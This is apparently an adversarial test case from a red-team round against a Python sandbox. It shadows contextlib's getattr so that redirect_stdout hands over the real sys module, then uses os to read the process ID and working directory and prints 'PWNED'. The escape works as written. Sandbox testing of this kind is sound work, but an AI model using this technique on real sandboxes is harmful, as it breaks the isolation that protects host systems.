# adversary round 8: 017: documented module-write gap used to shadow a builtin: object.__setattr__(contextlib, 'getattr', spy); redirect_stdout.__enter__ calls getattr(sys, 'stdout') -> spy receives the real sys module
import contextlib
import io

got = []


def spy(obj, name, *default):
    got.append(obj)
    return io.StringIO()


object.__setattr__(contextlib, 'getattr', spy)
try:
    with contextlib.redirect_stdout(io.StringIO()):
        pass
except PermissionError as e:
    print('exit refused:', e)
object.__delattr__(contextlib, 'getattr')
s = got[0]
print(s, s.modules['os'].getpid(), s.modules['os'].getcwd())
print('PWN' + 'ED')
